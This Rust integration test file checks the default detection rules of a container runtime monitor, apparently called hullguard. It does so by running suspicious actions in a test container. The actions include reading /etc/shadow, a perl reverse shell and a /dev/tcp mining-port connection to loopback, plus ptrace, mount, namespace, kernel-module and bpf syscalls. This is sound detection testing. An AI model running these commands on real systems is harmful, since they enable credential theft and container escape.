//! Each default rule against the bad action done in a real debian-base container, and a benign
//! workload that raises no alert. Alerts are read as `hullguard watch` writes them.

mod common;

use std::time::Duration;

use hullguard_watch::SourceChoice;
use hullguard_watch::rules::DEFAULT;
use serde_json::Value;

/// The alerts of the default rules raised while `act` runs on a fresh container (`flags` for
/// `docker run`).
fn alerts_of(name: &str, flags: &[&str], act: impl FnOnce(&common::Container)) -> Option<Vec<Value>> {
    alerts_with(name, flags, DEFAULT, Duration::from_secs(10), act)
}

/// The alerts of `rules` (repeats folded within `window`) raised while `act` runs.
fn alerts_with(
    name: &str,
    flags: &[&str],
    rules: &str,
    window: Duration,
    act: impl FnOnce(&common::Container),
) -> Option<Vec<Value>> {
    // The precondition once, loudly; `run` attaches its own probe.
    drop(common::probe()?);
    let watched = common::watch(SourceChoice::Ebpf, name, flags, rules, window, act);
    assert_eq!(watched.stats.dropped, 0);
    Some(watched.alerts)
}

fn rules_of(alerts: &[Value]) -> Vec<&str> {
    alerts.iter().map(|a| a["rule"].as_str().unwrap()).collect()
}

#[test]
fn shell_by_docker_exec_has_falco_shape() {
    let Some(alerts) = alerts_of("shell", &[], |c| {
        c.exec(&["/bin/bash", "-c", "true"]);
    }) else {
        return;
    };
    assert_eq!(rules_of(&alerts), ["Terminal shell in container"]);
    let a = &alerts[0];
    assert_eq!(a["priority"], "Warning");
    assert_eq!(a["source"], "syscall");
    assert_eq!(a["tags"], serde_json::json!(["container", "shell", "mitre_execution", "T1059.004"]));
    let f = &a["output_fields"];
    assert_eq!(f["proc.cmdline"], "bash -c true");
    assert_eq!(f["proc.exe"], "/bin/bash");
    assert_eq!(f["user.uid"], "0");
    assert_eq!(f["container.image.repository"], "debian-base");
    let name = format!("hg-watch-shell-{}", std::process::id());
    assert_eq!(f["container.name"], name.as_str());
    assert!(a["output"].as_str().unwrap().ends_with(&format!(
        ": Warning A shell was spawned in a container (user=0 container={name} image=debian-base cmdline=bash -c true)"
    )));
}

#[test]
fn shadow_read() {
    let Some(alerts) = alerts_of("shadow", &[], |c| {
        c.exec(&["/usr/bin/cat", "/etc/shadow"]);
    }) else {
        return;
    };
    assert_eq!(rules_of(&alerts), ["Read sensitive file"]);
    assert_eq!(alerts[0]["output_fields"]["fd.name"], "/etc/shadow");
    assert_eq!(alerts[0]["output_fields"]["proc.cmdline"], "cat /etc/shadow");
}

#[test]
fn write_below_usr_bin_then_run_it_is_drift() {
    let Some(alerts) = alerts_of("write", &[], |c| {
        c.exec(&["/usr/bin/cp", "/usr/bin/true", "/usr/bin/x"]);
        c.exec(&["/usr/bin/x"]);
    }) else {
        return;
    };
    assert_eq!(rules_of(&alerts), ["Write below binary dir", "Drift detected (exec of a file not in the image)"]);
    assert_eq!(alerts[0]["output_fields"]["fd.name"], "/usr/bin/x");
    assert_eq!(alerts[0]["output_fields"]["proc.cmdline"], "cp /usr/bin/true /usr/bin/x");
    assert_eq!(alerts[1]["output_fields"]["proc.exe"], "/usr/bin/x");
}

#[test]
fn write_below_etc_and_package_manager() {
    let Some(alerts) = alerts_of("etc", &[], |c| {
        c.exec(&["/usr/bin/touch", "/etc/evil"]);
        c.exec(&["/usr/bin/dpkg", "-l", "bash"]);
    }) else {
        return;
    };
    assert_eq!(rules_of(&alerts), ["Write below etc", "Package management process in container"]);
    assert_eq!(alerts[0]["output_fields"]["fd.name"], "/etc/evil");
    assert_eq!(alerts[1]["output_fields"]["proc.cmdline"], "dpkg -l bash");
}

#[test]
fn connect_to_a_mining_port_on_loopback() {
    let listener = std::net::TcpListener::bind("127.0.0.1:3333").expect("port 3333 free");
    let Some(alerts) = alerts_of("mining", &["--network", "host"], |c| {
        c.exec(&["/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/3333"]);
    }) else {
        return;
    };
    drop(listener);
    assert_eq!(rules_of(&alerts), ["Terminal shell in container", "Outbound connection to mining pool port"]);
    assert_eq!(alerts[1]["output_fields"]["fd.name"], "127.0.0.1:3333");
    assert_eq!(alerts[1]["output_fields"]["fd.port"], "3333");
}

#[test]
fn docker_socket_contacted() {
    let Some(alerts) = alerts_of("sock", &["-v", "/var/run/docker.sock:/var/run/docker.sock"], |c| {
        let connect = "use IO::Socket::UNIX; IO::Socket::UNIX->new(Peer => '/var/run/docker.sock') or die";
        c.exec(&["/usr/bin/perl", "-e", connect]);
    }) else {
        return;
    };
    assert_eq!(rules_of(&alerts), ["Docker socket contacted from container"]);
    assert_eq!(alerts[0]["output_fields"]["fd.name"], "/var/run/docker.sock");
    assert_eq!(alerts[0]["output_fields"]["evt.type"], "connect");
}

#[test]
fn benign_workload_and_healthcheck_raise_nothing() {
    let Some(alerts) = alerts_of("benign", &["--health-cmd", "/usr/bin/true", "--health-interval", "1s"], |c| {
        c.exec(&["/usr/bin/ls", "/usr/bin"]);
        c.exec(&["/usr/bin/cat", "/etc/os-release"]);
        c.exec(&["/usr/bin/sha256sum", "/usr/bin/ls"]);
        std::thread::sleep(Duration::from_millis(1500)); // a healthcheck runs
    }) else {
        return;
    };
    assert_eq!(rules_of(&alerts), Vec::<&str>::new());
}

/// `docker run` flags that let the syscalls Docker's default seccomp profile refuses reach the
/// kernel's tracepoints (seccomp runs first: a refused call is never seen, nor done).
const UNCONFINED: [&str; 2] = ["--security-opt", "seccomp=unconfined"];

/// Each alert as (rule, container name, command line).
fn summary(alerts: &[Value]) -> Vec<(String, String, String)> {
    let text = |a: &Value, k: &str| a["output_fields"][k].as_str().unwrap_or_default().to_owned();
    alerts
        .iter()
        .map(|a| (a["rule"].as_str().unwrap().to_owned(), text(a, "container.name"), text(a, "proc.cmdline")))
        .collect()
}

/// The one alert expected: `rule` for `cmdline` in the container named `hg-watch-NAME-PID`.
fn expect_one(alerts: &[Value], name: &str, rule: &str, cmdline: &str) {
    let container = format!("hg-watch-{name}-{}", std::process::id());
    assert_eq!(summary(alerts), [(rule.to_owned(), container, cmdline.to_owned())], "{alerts:#?}");
}

#[test]
fn setuid_and_setgid_by_a_non_root_process() {
    let script = "syscall(105, 0); syscall(106, 0)";
    let Some(alerts) = alerts_of("setid", &[], |c| {
        c.exec_as("1000", &["/usr/bin/perl", "-e", script]);
    }) else {
        return;
    };
    let rule = "User or group id change by non-root process";
    let cmdline = format!("perl -e {script}");
    let container = format!("hg-watch-setid-{}", std::process::id());
    assert_eq!(
        summary(&alerts),
        [(rule.to_owned(), container.clone(), cmdline.clone()), (rule.to_owned(), container, cmdline)]
    );
    let f = |n: usize, k: &str| alerts[n]["output_fields"][k].as_str().unwrap().to_owned();
    assert_eq!((f(0, "evt.type"), f(0, "evt.arg.id"), f(0, "user.uid")), ("setuid".into(), "0".into(), "1000".into()));
    assert_eq!((f(1, "evt.type"), f(1, "evt.arg.id")), ("setgid".into(), "0".into()));
}

#[test]
fn setuid_binary_run_by_a_non_root_user() {
    let Some(alerts) = alerts_of("suid", &[], |c| {
        c.exec_as("1000", &["/usr/bin/su", "--help"]);
        c.exec_as("0", &["/usr/bin/su", "--help"]); // root: no alert
    }) else {
        return;
    };
    expect_one(&alerts, "suid", "Setuid binary run by non-root user", "su --help");
    assert_eq!(alerts[0]["output_fields"]["fd.name"], "/usr/bin/su");
    assert_eq!(alerts[0]["output_fields"]["evt.arg.mode"], "104755");
    assert_eq!(alerts[0]["output_fields"]["user.uid"], "1000");
}

#[test]
fn ptrace_attach_to_another_process() {
    let script = "syscall(101, 16, 1, 0, 0)"; // PTRACE_ATTACH to the container's pid 1
    let Some(alerts) = alerts_of("ptrace", &[], |c| {
        c.exec(&["/usr/bin/perl", "-e", script]);
    }) else {
        return;
    };
    expect_one(&alerts, "ptrace", "PTRACE attached to another process", &format!("perl -e {script}"));
    assert_eq!(alerts[0]["output_fields"]["evt.arg.request"], "16");
    assert_eq!(alerts[0]["output_fields"]["evt.arg.pid"], "1");
}

#[test]
fn mount_in_a_container() {
    let script = r#"my ($s, $t, $f) = ("none", "/mnt", "tmpfs"); syscall(165, $s, $t, $f, 0, 0)"#;
    let Some(alerts) = alerts_of("mount", &UNCONFINED, |c| {
        c.exec(&["/usr/bin/perl", "-e", script]);
    }) else {
        return;
    };
    expect_one(&alerts, "mount", "Mount in container", &format!("perl -e {script}"));
    assert_eq!(alerts[0]["output_fields"]["fd.name"], "/mnt");
}

#[test]
fn unshare_and_setns_in_a_container() {
    let unshare = "syscall(272, 0x04000000)"; // CLONE_NEWUTS
    let setns = r#"open(my $f, "<", "/proc/1/ns/net") or die; syscall(308, fileno($f), 0x40000000)"#;
    let Some(alerts) = alerts_of("ns", &UNCONFINED, |c| {
        c.exec(&["/usr/bin/perl", "-e", unshare]);
        c.exec(&["/usr/bin/perl", "-e", setns]);
    }) else {
        return;
    };
    let rule = "Namespace change in container".to_owned();
    let container = format!("hg-watch-ns-{}", std::process::id());
    assert_eq!(
        summary(&alerts),
        [
            (rule.clone(), container.clone(), format!("perl -e {unshare}")),
            (rule, container, format!("perl -e {setns}"))
        ]
    );
    let f = |n: usize, k: &str| alerts[n]["output_fields"][k].as_str().unwrap().to_owned();
    assert_eq!((f(0, "evt.type"), f(0, "evt.arg.flags")), ("unshare".into(), "0x4000000".into()));
    assert_eq!((f(1, "evt.type"), f(1, "evt.arg.flags")), ("setns".into(), "0x40000000".into()));
}

#[test]
fn kernel_module_load_from_a_container() {
    let script = r#"my $p = ""; syscall(313, 0, $p, 0)"#; // finit_module
    let Some(alerts) = alerts_of("module", &UNCONFINED, |c| {
        c.exec(&["/usr/bin/perl", "-e", script]);
    }) else {
        return;
    };
    expect_one(&alerts, "module", "Kernel module load from container", &format!("perl -e {script}"));
    assert_eq!(alerts[0]["output_fields"]["evt.type"], "finit_module");
}

#[test]
fn bpf_from_a_container() {
    let script = "syscall(321, 0, 0, 0)"; // BPF_MAP_CREATE
    let Some(alerts) = alerts_of("bpf", &UNCONFINED, |c| {
        c.exec(&["/usr/bin/perl", "-e", script]);
    }) else {
        return;
    };
    expect_one(&alerts, "bpf", "BPF from container", &format!("perl -e {script}"));
    assert_eq!(alerts[0]["output_fields"]["evt.arg.cmd"], "0");
}

#[test]
fn reverse_shell_to_a_loopback_listener() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a free port");
    let port = listener.local_addr().unwrap().port();
    let script = format!(
        "use IO::Socket::INET; $s = IO::Socket::INET->new('127.0.0.1:{port}') or die; \
         open STDIN, '<&', $s; open STDOUT, '>&', $s; exec '/bin/sh', '-c', 'true'"
    );
    let Some(alerts) = alerts_of("revshell", &["--network", "host"], |c| {
        c.exec(&["/usr/bin/perl", "-e", &script]);
    }) else {
        return;
    };
    drop(listener);
    expect_one(&alerts, "revshell", "Reverse shell", "sh -c true");
    assert_eq!(alerts[0]["output_fields"]["proc.exe"], "/bin/sh");
    assert_eq!(alerts[0]["output_fields"]["proc.stdio_socket"], "true");
}

/// A rules file of one rule alerting on reads of /etc/shadow in the container named
/// `hg-watch-NAME-PID` only (tests run side by side, responses must not reach the others), with
/// `extra` keys.
fn shadow_rule(name: &str, extra: &str) -> String {
    let container = format!("hg-watch-{name}-{}", std::process::id());
    format!(
        "rules:\n  - rule: Shadow\n    priority: warning\n    \
         condition: evt.type = open and fd.name = /etc/shadow and container.name = {container}\n    \
         output: \"read by %proc.cmdline\"\n{extra}"
    )
}

#[test]
fn pause_and_kill_responses_act_on_the_container() {
    // A killed container is removed at once (`--rm`): not running is what is seen.
    for (response, state) in [("pause", "paused"), ("kill", "")] {
        let name = format!("respond-{response}");
        let rules = shadow_rule(&name, &format!("    response: {response}\n"));
        let Some(alerts) = alerts_with(&name, &[], &rules, Duration::from_secs(10), |c| {
            // Detached: a paused or killed exec session would not return.
            common::docker_ok(&["exec", "-d", &c.id, "/usr/bin/cat", "/etc/shadow"]);
            std::thread::sleep(Duration::from_millis(700));
            let out = common::docker(&["inspect", "-f", "{{.State.Status}}", &c.id]);
            let status = String::from_utf8_lossy(&out.stdout).trim().to_owned();
            assert!(status == state || (state.is_empty() && !out.status.success()), "{response}: {status}");
        }) else {
            return;
        };
        assert_eq!(rules_of(&alerts), ["Shadow"]);
        assert_eq!(alerts[0]["output_fields"]["hullguard.response"], response, "{:#?}", alerts[0]);
    }
}

#[test]
fn exceptions_leave_out_the_matching_process_and_path() {
    let rules = shadow_rule(
        "except",
        "    exceptions:\n      - process: cat\n        path: [/etc/shadow]\n      - image: other*\n",
    );
    let Some(alerts) = alerts_with("except", &[], &rules, Duration::from_secs(10), |c| {
        c.exec(&["/usr/bin/cat", "/etc/shadow"]);
        c.exec(&["/usr/bin/head", "-c1", "/etc/shadow"]);
    }) else {
        return;
    };
    expect_one(&alerts, "except", "Shadow", "head -c1 /etc/shadow");
}

#[test]
fn repeats_fold_into_the_next_alert_and_the_rate_limit_holds_back_the_rest() {
    let window = Duration::from_secs(4);
    let rules = shadow_rule("fold", "    rate_limit: 2\n");
    let Some(alerts) = alerts_with("fold", &[], &rules, window, |c| {
        let start = std::time::Instant::now();
        for _ in 0..3 {
            c.exec(&["/usr/bin/cat", "/etc/shadow"]);
        }
        assert!(start.elapsed() < window, "three execs within the window");
        std::thread::sleep(window.saturating_sub(start.elapsed()) + Duration::from_millis(1500));
        c.exec(&["/usr/bin/cat", "/etc/shadow"]); // after the window: written, with the 2 repeats
        c.exec(&["/usr/bin/head", "-c1", "/etc/shadow"]); // a third alert this minute: held back
    }) else {
        return;
    };
    let f = |n: usize, k: &str| alerts[n]["output_fields"][k].clone();
    assert_eq!(rules_of(&alerts), ["Shadow", "Shadow"], "{alerts:#?}");
    assert_eq!(f(0, "hullguard.repeats"), Value::Null);
    assert_eq!(f(1, "hullguard.repeats"), 2);
    assert!(f(1, "hullguard.repeats_first").as_str().unwrap() <= f(1, "hullguard.repeats_last").as_str().unwrap());
    assert_eq!(f(1, "proc.cmdline"), "cat /etc/shadow");
}

#[test]
fn repeated_opens_of_one_process_are_counted_in_the_kernel_and_folded() {
    // One shell opens /etc/shadow 50 times within the kernel's second (one sent, 49 counted), once
    // more after it (sent with the 49), and once after the alert window (written with all 50).
    let window = Duration::from_secs(4);
    let rules = shadow_rule("kfold", "");
    let script = "for i in $(seq 50); do read l < /etc/shadow; done; sleep 1.5; read l < /etc/shadow; \
                  sleep 4; read l < /etc/shadow";
    let Some(alerts) = alerts_with("kfold", &[], &rules, window, |c| {
        c.exec(&["/bin/sh", "-c", script]);
    }) else {
        return;
    };
    let f = |n: usize, k: &str| alerts[n]["output_fields"][k].clone();
    assert_eq!(rules_of(&alerts), ["Shadow", "Shadow"], "{alerts:#?}");
    assert_eq!(f(0, "hullguard.repeats"), Value::Null);
    assert_eq!(f(1, "hullguard.repeats"), 50, "{alerts:#?}");
}
